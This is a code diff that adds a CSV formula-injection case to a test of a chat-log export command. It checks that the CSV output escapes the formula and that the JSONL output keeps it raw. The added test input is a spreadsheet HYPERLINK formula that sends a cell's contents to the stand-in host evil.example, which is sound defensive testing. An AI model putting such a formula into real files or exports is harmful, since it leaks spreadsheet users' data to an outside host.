@@ -176,12 +176,15 @@ def run_export(data_dir, *args):
 def test_export_writes_jsonl_and_csv_with_the_documented_columns(client, env):
     say(client, 1, "Bonjour, \u00e7a va ?")
     say(client, 2, "Line one, \"quoted\"")
+    say(client, 3, '=HYPERLINK("https://evil.example/?"&A1,"Click")')  # a formula to a spreadsheet
     as_csv = run_export(env["DATA_DIR"], "--format", "csv")
     rows = list(csv.DictReader(io.StringIO(as_csv.stdout)))
     assert as_csv.returncode == 0 and tuple(rows[0]) == EXPORT_COLUMNS
-    assert [r["user_message"] for r in rows] == ["Bonjour, \u00e7a va ?", "Line one, \"quoted\""]
+    assert [r["user_message"] for r in rows] == ["Bonjour, \u00e7a va ?", "Line one, \"quoted\"",
+                                                 '\'=HYPERLINK("https://evil.example/?"&A1,"Click")']
     as_jsonl = run_export(env["DATA_DIR"], "--since", "7d")
-    assert [json.loads(line)["outcome"] for line in as_jsonl.stdout.splitlines()] == ["answered", "answered"]
+    assert [json.loads(line)["outcome"] for line in as_jsonl.stdout.splitlines()] == ["answered"] * 3
+    assert json.loads(as_jsonl.stdout.splitlines()[2])["user_message"].startswith("=HYPERLINK")
     nothing = run_export(env["DATA_DIR"], "--since", "2999-01-01")
     assert nothing.stdout == "" and "no exchange records matched" in nothing.stderr
     assert "no exchange records matched" not in as_jsonl.stderr
